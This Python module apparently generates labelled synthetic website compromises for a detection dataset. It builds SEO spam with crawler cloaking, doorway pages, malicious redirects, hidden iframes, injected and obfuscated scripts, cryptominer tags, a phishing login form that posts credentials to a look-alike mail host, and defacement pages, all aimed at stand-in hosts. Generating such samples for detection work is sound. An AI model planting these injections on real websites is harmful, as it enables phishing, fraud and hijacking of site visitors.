"""Attacks as data: a Spec names a technique variant; build_attack turns it into concrete edits (Ops) and labels."""

from __future__ import annotations

import html
import random
from dataclasses import dataclass

from . import jsobf, spam
from .hiding import hide
from .identity import Identity, ascii_slug
from .model import VISIBLE_TO, Attack, Op
from .templates.base import BODY_END, BODY_START, CONTENT, FOOTER, HEAD

ATTACKER_ORIGINS = 5  # loopback hosts 127.0.0.250-254 serving attacker landing pages
TEAMS = ("Mr.Kh4nh", "AnonSec VN", "DarkCyb3r Team", "VN-Gh0st", "Sad Hacker 1337", "0x1Z Crew", "Shadow_Phantom")


@dataclass(frozen=True)
class Spec:
    family: str  # spam | bot_page | doorway | redirect | inject | deface | tamper
    variant: str = ""
    page: str = "home"
    cond: str = "any"
    category: str = "gambling"
    hide: str = ""
    obf: tuple[str, ...] = ()
    title: bool = False
    target: str = "fake"


def _cloak(cond: str) -> tuple[str, ...]:
    return () if cond == "any" else (f"cloaking.{cond}",)


def _scope(page: str) -> tuple[str, ...]:
    return ("scope.inner_page",) if page in ("featured", "intro", "contact") else ()


def attacker_url(rng: random.Random, spec: Spec, category: str = "gambling") -> tuple[str, str]:
    """Where a redirect sends visitors: an invented host, or a loopback attacker origin; (url, evidence)."""
    if spec.target == "loopback":
        n = rng.randint(0, ATTACKER_ORIGINS - 1)
        return f"@@ATTACKER{n}@@/?utm_source=gov&r={rng.randint(100, 999)}", f"127.0.0.{250 + n}"
    host = spam.spam_host(rng, category)
    if rng.random() < 0.2:
        code = "".join(rng.choice("abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(6))
        return f"https://bit.ly/{code}", f"bit.ly/{code}"
    return f"https://{host}/?ref=gov", host


def _spam(rng: random.Random, spec: Spec) -> Attack:
    links = spam.spam_links(rng, spec.category, rng.randint(6, 18))
    inner = spam.anchors_html(rng, links, spec.obf)
    if rng.random() < 0.5:
        inner = f"<p>{spam.spam_paragraph(rng, spec.category, spec.obf)}</p>{inner}"
    techniques = [f"spam.{spec.category}", "spam.offsite_links"]
    head_html = ""
    if spec.hide:
        head_html, block = hide(rng, spec.hide, inner)
        techniques.append(f"hide.{spec.hide}")
    else:
        block = f'<div class="lien-ket-doi-tac">{inner}</div>'
        techniques.append("spam.visible")
    marker = rng.choice((FOOTER, FOOTER, BODY_END, BODY_START, CONTENT))
    ops = [Op("insert", spec.page, spec.cond, marker=marker, html=block)]
    if head_html:
        ops.append(Op("insert", spec.page, spec.cond, marker=HEAD, html=head_html))
    evidence = [links[0][1].split("/")[2]]
    if spec.title:
        title_op, brand = _title_op(rng, spec)
        ops.append(title_op)
        techniques.append("spam.title_meta")
        evidence.append(brand)
    if spec.category == "crypto":
        wallet = spam.wallet_address(rng)
        ops.append(
            Op(
                "insert",
                spec.page,
                spec.cond,
                marker=CONTENT,
                html=f"<p>Gửi USDT (TRC20) tới ví <b>{wallet}</b> để nhận x2!</p>",
            )
        )
        evidence.append(wallet)
    techniques += [f"obfuscation.{o}" for o in spec.obf]
    techniques += _cloak(spec.cond) + _scope(spec.page)
    return Attack(tuple(techniques), tuple(ops), (spec.page,), VISIBLE_TO[spec.cond], tuple(evidence))


def _title_op(rng: random.Random, spec: Spec) -> tuple[Op, str]:
    brand = rng.choice(spam.BRANDS).upper()
    words = spam.CATEGORY_WORDS[spec.category]
    op = Op(
        "title",
        spec.page,
        spec.cond,
        title=f"{words[0].title()} {brand} – {words[1]} | {words[2]}",
        description=f"{brand} {words[0]}, {words[1]}, {words[3 % len(words)]} – khuyến mãi nạp đầu 200%",
        keywords=f"{brand}, {', '.join(words[:5])}",
    )
    return op, brand


def _title_only(rng: random.Random, spec: Spec) -> Attack:
    op, brand = _title_op(rng, spec)
    techniques = (f"spam.{spec.category}", "spam.title_meta", *_cloak(spec.cond), *_scope(spec.page))
    return Attack(techniques, (op,), (spec.page,), VISIBLE_TO[spec.cond], (brand,))


def _bot_page(rng: random.Random, spec: Spec) -> Attack:
    """The whole page swapped for a spam landing page, for crawlers only (classic Vietnamese SEO cloaking)."""
    links = spam.spam_links(rng, spec.category, 12)
    title = html.escape(links[0][0].title())
    body = spam.anchors_html(rng, links, ())
    doc = (
        f'<!DOCTYPE html><html lang="vi"><head><meta charset="utf-8"><title>{title} – Trang chủ chính thức</title>'
        f'<meta name="description" content="{html.escape(spam.spam_paragraph(rng, spec.category, ()))}"></head>'
        f"<body><h1>{title}</h1><p>{spam.spam_paragraph(rng, spec.category, ())}</p><nav>{body}</nav></body></html>"
    )
    techniques = (f"spam.{spec.category}", "spam.offsite_links", "spam.page_replaced", *_cloak(spec.cond))
    return Attack(
        techniques,
        (Op("replace", spec.page, spec.cond, html=doc),),
        (spec.page,),
        VISIBLE_TO[spec.cond],
        (links[0][1].split("/")[2],),
    )


def _doorway(rng: random.Random, spec: Spec) -> Attack:
    """Spam pages planted on the site itself, linked from the home page by hidden same-site links."""
    slugs = [f"/images/stories/{ascii_slug(spam.spam_links(rng, 'gambling', 1)[0][0])}-{i}.html" for i in range(3)]
    ops = []
    anchors = []
    for slug in slugs:
        links = spam.spam_links(rng, spec.category, 8)
        page = (
            f'<html><head><meta charset="utf-8"><title>{html.escape(links[0][0])}</title></head><body>'
            f"<h1>{html.escape(links[0][0])}</h1>{spam.anchors_html(rng, links, ())}</body></html>"
        )
        ops.append(Op("add_page", slug, html=page))
        anchors.append(f'<a href="{html.escape(slug)}">{html.escape(links[1][0])}</a>')
    head_html, block = hide(rng, spec.hide or "display_none", " ".join(anchors))
    ops.append(Op("insert", "home", spec.cond, marker=FOOTER, html=block))
    if head_html:
        ops.append(Op("insert", "home", spec.cond, marker=HEAD, html=head_html))
    techniques = (
        f"spam.{spec.category}",
        "spam.doorway_pages",
        f"hide.{spec.hide or 'display_none'}",
        *_cloak(spec.cond),
    )
    # the planted pages answer anyone who asks, but only the hidden links on the home page lead to them
    return Attack(techniques, tuple(ops), ("home",), VISIBLE_TO[spec.cond], (slugs[0],))


def _redirect(rng: random.Random, spec: Spec) -> Attack:
    url, evidence = attacker_url(rng, spec)
    variant = spec.variant
    if variant in ("http_301", "http_302"):
        op = Op("redirect", spec.page, spec.cond, status=int(variant[-3:]), location=url)
    elif variant == "meta_refresh":
        delay = rng.choice((0, 0, 1, 3))
        meta = f'<meta http-equiv="refresh" content="{delay};url={url}">'
        op = Op("insert", spec.page, spec.cond, marker=HEAD, html=meta)
    else:
        # a loopback target is a placeholder the server fills in, so it only works with plain (unencoded) scripts
        assert spec.target != "loopback" or variant.startswith("js_location"), variant
        script, script_evidence = jsobf.redirect_script(rng, variant, url)
        evidence = evidence if spec.target == "loopback" else script_evidence
        op = Op("insert", spec.page, spec.cond, marker=rng.choice((HEAD, BODY_START, BODY_END)), html=script)
    techniques = [f"redirect.{variant}", *_cloak(spec.cond), *_scope(spec.page)]
    if spec.target == "loopback":
        techniques.append("redirect.loopback_target")
    return Attack(tuple(techniques), (op,), (spec.page,), VISIBLE_TO[spec.cond], (evidence,))


def _inject(rng: random.Random, spec: Spec, ident: Identity) -> Attack:
    v = spec.variant
    marker = rng.choice((HEAD, BODY_END, FOOTER))
    if v == "script_src":
        snippet, evidence = jsobf.bad_script_tag(rng)
    elif v == "hidden_iframe":
        host = spam.spam_host(rng, "gambling")
        style = rng.choice(
            (
                'width="0" height="0" frameborder="0"',
                'style="display:none"',
                'width="1" height="1" style="visibility:hidden"',
            )
        )
        snippet, evidence, marker = (
            f'<iframe src="http://{host}/ads.html" {style}></iframe>',
            host,
            rng.choice((BODY_END, FOOTER)),
        )
    elif v == "cryptominer":
        snippet, evidence = jsobf.miner_script(rng)
    elif v == "phishing_form":
        host = f"{ident.domain.split('.')[0]}-mail.{rng.choice(('online', 'site', 'top'))}"
        snippet = (
            f'<div class="login-box"><h3>Đăng nhập hệ thống thư điện tử công vụ</h3><form method="post" '
            f'action="https://{host}/login.php"><input type="text" name="user" placeholder="Tài khoản">'
            '<input type="password" name="pass" placeholder="Mật khẩu"><button>Đăng nhập</button></form></div>'
        )
        evidence, marker = host, CONTENT
    elif v in ("document_write_atob", "document_write_unescape"):
        links = spam.spam_links(rng, "gambling", 8)
        payload = f'<div style="display:none">{spam.anchors_html(rng, links, ())}</div>'
        snippet, evidence = jsobf.docwrite_script(rng, v, payload)
        marker = rng.choice((FOOTER, BODY_END))
    elif v == "own_js_modified":
        src = f"https://{rng.choice(jsobf.BAD_SCRIPT_HOSTS)}/j/{rng.randint(1000, 9999)}.js"
        code, evidence = jsobf.injector_js(rng, src)
        return Attack(
            ("inject.own_js_modified",), (Op("append_asset", "js", html=code),), ("js",), VISIBLE_TO["any"], (evidence,)
        )
    else:
        raise ValueError(v)
    techniques = (f"inject.{v}", *_cloak(spec.cond), *_scope(spec.page))
    return Attack(
        techniques,
        (Op("insert", spec.page, spec.cond, marker=marker, html=snippet),),
        (spec.page,),
        VISIBLE_TO[spec.cond],
        (evidence,),
    )


def _deface(rng: random.Random, spec: Spec, ident: Identity) -> Attack:
    team = rng.choice(TEAMS)
    v = spec.variant
    gif = f"https://i.imgur.com/{rng.randint(10**6, 10**7)}.gif"
    if v == "replaced":
        doc = (
            f'<html><head><title>Hacked by {team}</title></head><body bgcolor="black"><center>'
            f'<img src="{gif}"><h1><font color="red">Hacked by {team}</font></h1>'
            '<h3><font color="white">Your security is low. Patch your server, admin!</font></h3>'
            f'<marquee><font color="lime">Greetz: {team} – all Vietnamese hackers</font></marquee>'
            '<audio autoplay loop src="https://files.catbox.moe/x1.mp3"></audio></center></body></html>'
        )
        return Attack(
            ("deface.replaced",),
            (Op("replace", "home", html=doc),),
            ("home",),
            VISIBLE_TO["any"],
            (f"Hacked by {team}",),
        )
    if v == "hacked_by_block":
        block = (
            '<div style="background:#000;color:#0f0;text-align:center;padding:40px">'
            f"<h1>HACKED BY {team.upper()}</h1><p>Admin ngủ quên rồi!</p></div>"
        )
        return Attack(
            ("deface.hacked_by_block",),
            (Op("insert", "home", marker=BODY_START, html=block),),
            ("home",),
            VISIBLE_TO["any"],
            (f"HACKED BY {team.upper()}",),
        )
    if v == "taunt_block":
        block = (
            f'<div id="x-msg" style="position:fixed;top:0;left:0;width:100%;height:100%;background:#000;z-index:99999">'
            f'<img src="{gif}"><h2 style="color:#fff">Bảo mật như cái rổ! Đã ghé thăm – {team}</h2>'
            f'<p style="color:#999">Telegram: @{team.replace(" ", "_").lower()}</p></div>'
        )
        return Attack(
            ("deface.taunt_block",),
            (Op("insert", "home", marker=BODY_START, html=block),),
            ("home",),
            VISIBLE_TO["any"],
            (f"@{team.replace(' ', '_').lower()}",),
        )
    if v == "identity_gone":
        doc = (
            f'<!DOCTYPE html><html lang="vi"><head><meta charset="utf-8"><title>{team} | Trang chủ</title></head><body>'
            f'<header><h1>{team}</h1><nav><a href="/">Home</a></nav></header><main><h2>Welcome to the new owners</h2>'
            f"<p>This domain is under new management. Contact Telegram @{team.replace(' ', '').lower()}</p></main>"
            f"<footer>© {team}</footer></body></html>"
        )
        return Attack(
            ("deface.identity_gone",),
            (Op("replace", "home", html=doc),),
            ("home",),
            VISIBLE_TO["any"],
            (f"@{team.replace(' ', '').lower()}",),
        )
    doc = f"<html><body><h1>{team} ~ w4s h3r3</h1></body></html>"
    return Attack(
        ("deface.structure_collapsed",),
        (Op("replace", "home", html=doc),),
        ("home",),
        VISIBLE_TO["any"],
        (f"{team} ~ w4s h3r3",),
    )


def build_attack(rng: random.Random, spec: Spec, ident: Identity) -> Attack:
    """Concrete edits and labels for one technique variant on one site."""
    builders = {
        "spam": lambda: _spam(rng, spec),
        "title": lambda: _title_only(rng, spec),
        "bot_page": lambda: _bot_page(rng, spec),
        "doorway": lambda: _doorway(rng, spec),
        "redirect": lambda: _redirect(rng, spec),
        "inject": lambda: _inject(rng, spec, ident),
        "deface": lambda: _deface(rng, spec, ident),
    }
    return builders[spec.family]()
